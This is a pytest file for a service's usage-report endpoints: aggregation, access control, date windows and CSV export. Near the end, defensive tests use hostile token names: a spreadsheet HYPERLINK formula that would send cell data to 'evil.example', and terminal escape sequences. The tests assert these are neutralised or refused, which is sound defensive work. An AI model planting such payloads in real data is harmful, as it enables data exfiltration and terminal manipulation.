"""GET /v1/usage and /v1/usage.csv over HTTP: two users (one calling with an API
token, through the OpenAI-compatible surface as well) and the admin make requests that
the OpenAI simulator answers, one of them failing; each report must match the request
records exactly, per day, model, provider, token and user, and stay within its caller."""

from __future__ import annotations

import csv
import io
from collections.abc import AsyncIterator, Callable
from dataclasses import dataclass
from datetime import UTC, datetime
from typing import Any

import httpx
import pytest
from fastapi import FastAPI
from sqlalchemy import select

from pluggably.generation.models import RequestRecord
from tests.conftest import ADMIN_KEY, assert_envelope, client_for, generate, new_user, running
from tests.fixtures.openai_sim import OpenAISim
from tests.generation.test_generate import gen_app

ADMIN = {"X-API-Key": ADMIN_KEY}
MINI, FOUR_O = "openai:gpt-4o-mini", "openai:gpt-4o"
GROUPS = ("day", "model", "provider", "token", "user")
COUNTS = ("requests", "errors", "prompt_tokens", "completion_tokens", "cost_usd")


@dataclass
class World:
    app: FastAPI
    client: httpx.AsyncClient
    alice: dict[str, str]  # login
    bob: dict[str, str]  # login
    bob_token: dict[str, str]  # API token "sdk"
    ids: dict[str, str]  # username -> user id ("admin": the admin key's account)
    token_id: str


async def _user_id(client: httpx.AsyncClient, headers: dict[str, str]) -> str:
    return str((await client.get("/v1/users/me", headers=headers)).json()["id"])


async def _calls(world: World, sim: OpenAISim) -> None:
    """alice: two models and one failure; bob: one by login, two with his token (native
    and OpenAI surface); the admin: one."""
    client = world.client
    for headers, model in ((world.alice, MINI), (world.alice, FOUR_O), (world.bob, MINI)):
        answer = await generate(client, headers, model=model, input={"prompt": "hello there"})
        assert answer.status_code == 200, answer.text
    sim.fail_next(status=400)
    failed = await generate(client, world.alice, model=MINI, input={"prompt": "break"})
    assert failed.status_code == 400, failed.text
    by_token = await generate(client, world.bob_token, model=FOUR_O, input={"prompt": "tok"})
    assert by_token.status_code == 200, by_token.text
    chat = await client.post(
        "/openai/v1/chat/completions",
        json={"model": MINI, "messages": [{"role": "user", "content": "from the sdk"}]},
        headers=world.bob_token,
    )
    assert chat.status_code == 200, chat.text
    mine = await generate(client, ADMIN, model=MINI, input={"prompt": "admin says hi"})
    assert mine.status_code == 200, mine.text


async def far_time_zone(database_url: str) -> None:
    """PostgreSQL sessions in UTC+14: a day must still be the UTC day of a record."""
    if not database_url.startswith("postgresql"):
        return
    import asyncpg  # type: ignore[import-untyped]

    base, name = database_url.replace("+asyncpg", "").rsplit("/", 1)
    connection = await asyncpg.connect(f"{base}/{name}")
    try:
        await connection.execute(f"ALTER DATABASE \"{name}\" SET timezone TO 'Pacific/Kiritimati'")
    finally:
        await connection.close()


@pytest.fixture
async def world(tmp_path: Any, database_url: str, openai_sim: OpenAISim) -> AsyncIterator[World]:
    await far_time_zone(database_url)
    app = gen_app(tmp_path, database_url, openai_sim)
    async with running(app), client_for(app) as client:
        alice, bob = await new_user(client, "alice"), await new_user(client, "bob")
        for headers in (alice, bob):
            key = {"provider": "openai", "api_key": "sk-users-own-key-77"}
            added = await client.post("/v1/users/provider-keys", json=key, headers=headers)
            assert added.status_code == 201, added.text
        created = (await client.post("/v1/users/tokens", json={"name": "sdk"}, headers=bob)).json()
        ids = {
            name: await _user_id(client, headers)
            for name, headers in (("alice", alice), ("bob", bob), ("admin", ADMIN))
        }
        token = {"Authorization": f"Bearer {created['token']}"}
        found = World(app, client, alice, bob, token, ids, created["id"])
        await _calls(found, openai_sim)
        yield found


async def records(app: FastAPI) -> list[RequestRecord]:
    """Every request record, read from the database itself."""
    await app.state.container.records.flush()
    async with app.state.container.db.session() as session:
        return list((await session.execute(select(RequestRecord))).scalars())


KEYS: dict[str, Callable[[RequestRecord], str | None]] = {
    "day": lambda r: r.created_at.astimezone(UTC).date().isoformat(),
    "model": lambda r: r.model,
    "provider": lambda r: r.provider,
    "token": lambda r: r.token_id,
    "user": lambda r: r.user_id,
}


def expected(rows: list[RequestRecord], group_by: str) -> dict[str | None, dict[str, Any]]:
    """What a report must say, computed here from the records one by one."""
    sums: dict[str | None, dict[str, Any]] = {}
    for record in rows:
        counts = sums.setdefault(KEYS[group_by](record), dict.fromkeys(COUNTS, 0))
        counts["requests"] += 1
        counts["errors"] += record.status == "failed"
        counts["prompt_tokens"] += record.prompt_tokens or 0
        counts["completion_tokens"] += record.completion_tokens or 0
        counts["cost_usd"] += record.cost_usd or 0.0
    return sums


async def report(client: httpx.AsyncClient, headers: dict[str, str], **params: str) -> Any:
    answer = await client.get("/v1/usage", params=params, headers=headers)
    assert answer.status_code == 200, answer.text
    return answer.json()


def by_key(body: Any) -> dict[str | None, dict[str, Any]]:
    return {row["key"]: {c: row[c] for c in COUNTS} for row in body["rows"]}


def assert_totals_are_the_rows(body: Any) -> None:
    summed = {c: sum(row[c] for row in body["rows"]) for c in COUNTS}
    assert body["totals"] == summed


def assert_matches(body: Any, rows: list[RequestRecord], group_by: str) -> None:
    want = expected(rows, group_by)
    got = by_key(body)
    assert set(got) == set(want)
    for key, counts in want.items():
        assert got[key] == {**counts, "cost_usd": pytest.approx(counts["cost_usd"])}, key
    assert_totals_are_the_rows(body)


async def test_a_users_report_matches_their_records_for_every_grouping(world: World) -> None:
    everything = await records(world.app)
    alices = [r for r in everything if r.user_id == world.ids["alice"]]
    assert len(alices) == 3  # two answers and the failure, counted right after them
    for group_by in GROUPS:
        body = await report(world.client, world.alice, group_by=group_by)
        assert (body["group_by"], body["user_id"]) == (group_by, world.ids["alice"])
        assert_matches(body, alices, group_by)
    by_model = by_key(await report(world.client, world.alice, group_by="model"))
    # A request that failed on every candidate records no model (generation/outcomes.py).
    assert {k: (v["requests"], v["errors"]) for k, v in by_model.items()} == {
        MINI: (1, 0),
        FOUR_O: (1, 0),
        None: (1, 1),
    }
    assert by_model[FOUR_O]["completion_tokens"] == 3  # "Echo: hello there"
    provider = await report(world.client, world.alice, group_by="provider")
    assert [(r["key"], r["requests"], r["errors"]) for r in provider["rows"]] == [
        ("openai", 2, 0),
        (None, 1, 1),
    ]


async def test_requests_with_an_api_token_are_keyed_by_it_and_the_rest_by_null(
    world: World,
) -> None:
    bobs = [r for r in await records(world.app) if r.user_id == world.ids["bob"]]
    body = await report(world.client, world.bob, group_by="token")
    assert_matches(body, bobs, "token")
    keyed = {row["key"]: (row["name"], row["requests"]) for row in body["rows"]}
    # The token's calls on both surfaces; the login's call has no token.
    assert keyed == {world.token_id: ("sdk", 2), None: (None, 1)}
    # The token itself may read the report of its owner.
    again = await report(world.client, world.bob_token, group_by="token")
    assert (again["rows"], again["totals"]) == (body["rows"], body["totals"])


async def test_a_user_never_sees_another_users_usage(world: World) -> None:
    for whose in (world.ids["bob"], "*"):
        denied = await world.client.get("/v1/usage", params={"user_id": whose}, headers=world.alice)
        assert_envelope(denied, 403, "forbidden")
        csv_denied = await world.client.get(
            "/v1/usage.csv", params={"user_id": whose}, headers=world.alice
        )
        assert_envelope(csv_denied, 403, "forbidden")
    own = await report(world.client, world.alice, user_id=world.ids["alice"], group_by="user")
    assert [row["key"] for row in own["rows"]] == [world.ids["alice"]]
    default = await report(world.client, world.alice, group_by="user")
    assert (own["rows"], own["user_id"]) == (default["rows"], default["user_id"])


async def test_an_admin_sees_anyone_or_everyone(world: World) -> None:
    everything = await records(world.app)
    for group_by in GROUPS:
        body = await report(world.client, ADMIN, user_id="*", group_by=group_by)
        assert body["user_id"] == "*"
        assert_matches(body, everything, group_by)
    users = await report(world.client, ADMIN, user_id="*", group_by="user")
    named = {row["key"]: (row["name"], row["requests"]) for row in users["rows"]}
    assert named == {
        world.ids["alice"]: ("alice", 3),
        world.ids["bob"]: ("bob", 3),
        world.ids["admin"]: (named[world.ids["admin"]][0], 1),
    }
    bob = await report(world.client, ADMIN, user_id=world.ids["bob"], group_by="model")
    assert_matches(bob, [r for r in everything if r.user_id == world.ids["bob"]], "model")
    own = await report(world.client, ADMIN, group_by="user")
    assert [row["key"] for row in own["rows"]] == [world.ids["admin"]]
    unknown = await world.client.get("/v1/usage", params={"user_id": "usr_nobody"}, headers=ADMIN)
    assert_envelope(unknown, 404, "not_found")


async def test_rows_are_sorted_days_ascending_and_others_by_cost_then_requests(
    world: World,
) -> None:
    await add_records(
        world.app,
        world.ids["alice"],
        [
            ("2024-01-20T10:00:00+00:00", "local:cheap", 0.25, "completed"),
            ("2024-01-05T10:00:00+00:00", "local:dear", 1.5, "completed"),
            ("2024-01-12T10:00:00+00:00", "local:cheap", 0.25, "completed"),
        ],
    )
    window = {"from": "2024-01-01", "to": "2024-01-31"}
    days = await report(world.client, world.alice, **window)
    assert [row["key"] for row in days["rows"]] == ["2024-01-05", "2024-01-12", "2024-01-20"]
    models = await report(world.client, world.alice, group_by="model", **window)
    assert [(row["key"], row["cost_usd"]) for row in models["rows"]] == [
        ("local:dear", 1.5),
        ("local:cheap", 0.5),
    ]
    for group_by in ("model", "token", "user"):
        rows = (await report(world.client, ADMIN, user_id="*", group_by=group_by))["rows"]
        assert rows == sorted(rows, key=lambda r: (-r["cost_usd"], -r["requests"], r["key"] or ""))


async def add_records(
    app: FastAPI, user_id: str, rows: list[tuple[str, str | None, float | None, str]]
) -> None:
    """Records written straight to the database: (created_at, model, cost_usd, status)."""
    async with app.state.container.db.session() as session:
        for created, model, cost, status in rows:
            session.add(
                RequestRecord(
                    user_id=user_id,
                    status=status,
                    model=model,
                    provider=model.split(":")[0] if model else None,
                    modality="text",
                    prompt_tokens=10,
                    completion_tokens=5 if status == "completed" else None,
                    cost_usd=cost,
                    created_at=datetime.fromisoformat(created),
                )
            )


async def test_costs_are_summed_with_none_as_zero(world: World) -> None:
    await add_records(
        world.app,
        world.ids["bob"],
        [
            ("2024-03-01T08:00:00+00:00", MINI, 0.25, "completed"),
            ("2024-03-01T09:00:00+00:00", MINI, None, "completed"),
            ("2024-03-01T10:00:00+00:00", FOUR_O, 1.125, "completed"),
            ("2024-03-02T10:00:00+00:00", FOUR_O, 0.5, "failed"),
            ("2024-03-02T11:00:00+00:00", None, None, "failed"),
        ],
    )
    window = {"from": "2024-03-01", "to": "2024-03-02"}
    days = await report(world.client, world.bob, **window)
    assert by_key(days) == {
        "2024-03-01": {
            "requests": 3,
            "errors": 0,
            "prompt_tokens": 30,
            "completion_tokens": 15,
            "cost_usd": 1.375,
        },
        "2024-03-02": {
            "requests": 2,
            "errors": 2,
            "prompt_tokens": 20,
            "completion_tokens": 0,
            "cost_usd": 0.5,
        },
    }
    assert days["totals"] == {
        "requests": 5,
        "errors": 2,
        "prompt_tokens": 50,
        "completion_tokens": 15,
        "cost_usd": 1.875,
    }
    models = await report(world.client, world.bob, group_by="model", **window)
    costs = {row["key"]: row["cost_usd"] for row in models["rows"]}
    assert costs == {FOUR_O: 1.625, MINI: 0.25, None: 0.0}  # no model: failed before one


async def test_the_window_bounds_dates_as_whole_utc_days_and_instants_exclusively(
    world: World,
) -> None:
    moments = [
        "2024-01-15T23:59:59+00:00",
        "2024-01-16T00:00:00+00:00",
        "2024-01-31T12:00:00+00:00",
        "2024-02-01T00:00:00+00:00",
    ]
    await add_records(world.app, world.ids["alice"], [(m, MINI, 1.0, "completed") for m in moments])

    async def days(**params: str) -> dict[str | None, int]:
        body = await report(world.client, world.alice, **params)
        assert_totals_are_the_rows(body)
        return {row["key"]: row["requests"] for row in body["rows"]}

    # A bare date 'to' includes its whole day; the day before 'from' and after 'to' are out.
    assert await days(**{"from": "2024-01-16", "to": "2024-01-31"}) == {
        "2024-01-16": 1,
        "2024-01-31": 1,
    }
    # A datetime 'to' is excluded; an offset is honoured (23:00 UTC on the 15th).
    assert await days(**{"from": "2024-01-16T00:00:00+01:00", "to": "2024-01-31T12:00:00Z"}) == {
        "2024-01-15": 1,
        "2024-01-16": 1,
    }
    body = await report(world.client, world.alice, **{"from": "2024-01-16", "to": "2024-01-31"})
    assert (body["from"], body["to"]) == ("2024-01-16T00:00:00Z", "2024-02-01T00:00:00Z")
    # The default window (the last 30 days) leaves the old records out.
    recent = await report(world.client, world.alice, group_by="model")
    assert recent["totals"]["requests"] == 3
    # Only 'to': the 30 days before it.
    assert await days(to="2024-02-14") == {"2024-01-16": 1, "2024-01-31": 1, "2024-02-01": 1}


async def test_bad_filters_are_validation_errors(world: World) -> None:
    for params, field in (
        ({"from": "2024-02-01", "to": "2024-01-31"}, "from"),
        ({"from": "2024-02-01T10:00:00Z", "to": "2024-02-01T10:00:00Z"}, "from"),
        ({"from": "2024-02-01T10:00:00"}, "from"),  # no offset
        ({"to": "yesterday"}, "to"),
        ({"group_by": "week"}, "group_by"),
        # Dates Python cannot take a day from or add one to were a 500.
        ({"to": "9999-12-31"}, "to"),
        ({"to": "0001-01-01T00:00:00Z"}, "to"),
        ({"from": "0001-01-01T00:30:00+01:00", "to": "2024-01-02"}, "from"),
    ):
        for path in ("/v1/usage", "/v1/usage.csv"):
            answer = await world.client.get(path, params=params, headers=world.alice)
            detail = assert_envelope(answer, 422, "validation_error")
            assert [d["loc"] for d in detail["details"]] == [["query", field]], params


async def test_the_csv_holds_the_rows_and_a_totals_row(world: World) -> None:
    for group_by in GROUPS:
        params = {"user_id": "*", "group_by": group_by}
        body = await report(world.client, ADMIN, **params)
        answer = await world.client.get("/v1/usage.csv", params=params, headers=ADMIN)
        assert answer.status_code == 200, answer.text
        assert answer.headers["content-type"] == "text/csv; charset=utf-8"
        assert answer.headers["content-disposition"].startswith(
            f'attachment; filename="usage-by-{group_by}-'
        )
        lines = list(csv.reader(io.StringIO(answer.text)))
        assert lines[0] == ["key", "name", *COUNTS]
        *rows, total = [dict(zip(lines[0], line, strict=True)) for line in lines[1:]]
        assert [(r["key"] or None, r["name"] or None) for r in rows] == [
            (row["key"], row["name"]) for row in body["rows"]
        ]
        assert [_numbers(r) for r in rows] == [{c: row[c] for c in COUNTS} for row in body["rows"]]
        assert (total["key"], total["name"]) == ("total", "")
        assert _numbers(total) == body["totals"]


def _numbers(line: dict[str, str]) -> dict[str, Any]:
    return {c: float(line[c]) if c == "cost_usd" else int(line[c]) for c in COUNTS}


async def test_a_window_spans_at_most_366_days(world: World) -> None:
    """A report reads every record of its window: a caller cannot ask for all of time."""
    leap_year = await report(
        world.client, world.alice, **{"from": "2024-01-01", "to": "2024-12-31"}
    )
    assert (leap_year["from"], leap_year["to"]) == ("2024-01-01T00:00:00Z", "2025-01-01T00:00:00Z")
    for params in (
        {"from": "2024-01-01", "to": "2025-01-01"},
        {"from": "1970-01-01"},  # 'to' is now
        {"from": "1970-01-01", "to": "9998-12-31"},
    ):
        for path in ("/v1/usage", "/v1/usage.csv"):
            answer = await world.client.get(path, params={**params, "user_id": "*"}, headers=ADMIN)
            detail = assert_envelope(answer, 422, "validation_error")
            assert detail["details"][0]["loc"] == ["query", "from"]
            assert "at most 366 days" in detail["message"]


async def test_the_csv_never_hands_a_spreadsheet_a_formula(world: World) -> None:
    """Token names are the caller's own text: one that a spreadsheet would run as a
    formula is written with a leading single quote (OWASP); the JSON keeps it as is."""
    names = ['=HYPERLINK("http://evil.example/?"&A1,"ok")', "+1+1", "-2+3", "@SUM(A1:A9)"]
    for name in names:
        made = await world.client.post("/v1/users/tokens", json={"name": name}, headers=world.bob)
        assert made.status_code == 201, made.text
        token = {"Authorization": f"Bearer {made.json()['token']}"}
        answer = await generate(world.client, token, model=MINI, input={"prompt": "hi"})
        assert answer.status_code == 200, answer.text
    params = {"group_by": "token", "from": datetime.now(UTC).date().isoformat()}
    body = await report(world.client, world.bob, **params)
    assert {row["name"] for row in body["rows"]} == {*names, "sdk", None}
    answer = await world.client.get("/v1/usage.csv", params=params, headers=world.bob)
    assert answer.status_code == 200, answer.text
    written = {line[1] for line in list(csv.reader(io.StringIO(answer.text)))[1:]}
    assert written == {*("'" + name for name in names), "sdk", ""}


async def test_a_token_name_with_control_characters_is_refused(world: World) -> None:
    """Token names reach reports, their CSV and the CLI's table on an administrator's
    terminal, where an escape sequence would drive the terminal."""
    for name in ("ci\x1b]0;owned\x07", "ci\x1b[2J", "ci\x9b2J", "two\nlines"):
        made = await world.client.post("/v1/users/tokens", json={"name": name}, headers=world.bob)
        detail = assert_envelope(made, 422, "validation_error")
        assert detail["details"][0]["loc"] == ["body", "name"]
    listed = await world.client.get("/v1/users/tokens", headers=world.bob)
    assert [token["name"] for token in listed.json()] == ["sdk"]
